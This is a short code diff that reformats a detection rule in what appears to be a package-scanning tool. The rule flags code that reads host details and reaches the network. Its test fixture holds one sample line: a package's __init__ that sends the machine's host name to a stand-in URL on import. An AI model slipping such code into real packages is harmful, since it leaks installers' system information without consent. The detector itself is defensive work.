@@ -7,7 +7,6 @@ from typing import TYPE_CHECKING
 from veln_hook.signals.source.rule import BY_ITSELF, HOLD, REVIEW, Hit, Rule
 from veln_hook.source import vocabulary as v
 
-
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
@@ -18,7 +17,11 @@ def _find(view: View) -> Iterator[Hit]:
     for fact, net, reach, _ in view.pairs((v.HOST,), (v.NET, v.DNS)):
         itself = reach in BY_ITSELF
         if itself or ("host" in net.taints and "sends" in net.flags):
-            yield Hit(f"it asks for the {fact.detail} of this machine and reaches {net.detail or 'the network'}", (fact, net), HOLD if itself else REVIEW)
+            yield Hit(
+                f"it asks for the {fact.detail} of this machine and reaches {net.detail or 'the network'}",
+                (fact, net),
+                HOLD if itself else REVIEW,
+            )
 
 
 RULE = Rule(
@@ -26,7 +29,11 @@ RULE = Rule(
     description="Host name, user, platform or public address are asked for by code that reaches the network.",
     grade=HOLD,
     find=_find,
-    fires={"acme/__init__.py": "import socket, requests\nrequests.get('https://example.test/?' + socket.gethostname())\n"},
-    quiet={"acme/__init__.py": "import platform, requests\n\ndef agent():\n    return {'User-Agent': platform.platform()}\n"},
+    fires={
+        "acme/__init__.py": "import socket, requests\nrequests.get('https://example.test/?' + socket.gethostname())\n"
+    },
+    quiet={
+        "acme/__init__.py": "import platform, requests\n\ndef agent():\n    return {'User-Agent': platform.platform()}\n"
+    },
     rates="94 + 84 of 2,004 malicious clusters, none of 200 popular archives",
 )
